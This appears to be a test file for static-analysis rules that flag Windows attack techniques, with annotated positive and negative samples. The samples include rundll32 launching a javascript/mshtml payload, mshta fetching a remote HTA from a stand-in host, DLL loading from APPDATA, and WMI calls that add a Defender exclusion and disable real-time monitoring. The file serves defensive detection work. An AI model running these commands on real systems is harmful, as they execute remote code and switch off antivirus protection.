import os
import subprocess

import wmi

js = 'javascript:"\\..\\mshtml,RunHTMLApplication ";eval("x")'
# ruleid: windows-proxy-execution, process-partial-path-list, subprocess-call, windows-download-argv
subprocess.Popen(["rundll32.exe", js], shell=False)
target = os.path.join(os.environ["APPDATA"], "msoutil.dll")
# ruleid: windows-proxy-execution, process-partial-path-list, subprocess-call
subprocess.Popen(["rundll32.exe", f"{target},DllMain"])
# ruleid: windows-proxy-execution, process-partial-path, process-partial-path-list, subprocess-call, windows-download-argv
subprocess.run(["mshta.exe", "https://x.example/a.hta"])
# the system's own control panel applet and URL handler
# ok: windows-proxy-execution
# ruleid: process-partial-path, process-partial-path-list, subprocess-call
subprocess.run(["rundll32.exe", "shell32.dll,Control_RunDLL", "desk.cpl"])

conn = wmi.WMI(namespace=r"root\Microsoft\Windows\Defender")
pref = conn.MSFT_MpPreference()[0]
# ruleid: defender-tampered-wmi
pref.Add(ExclusionPath=["C:\\Users\\Public"])
# ruleid: defender-tampered-wmi
pref.Set(DisableRealtimeMonitoring=True)
# a set of the program's own
seen = set()
# ok: defender-tampered-wmi
seen.add("x")
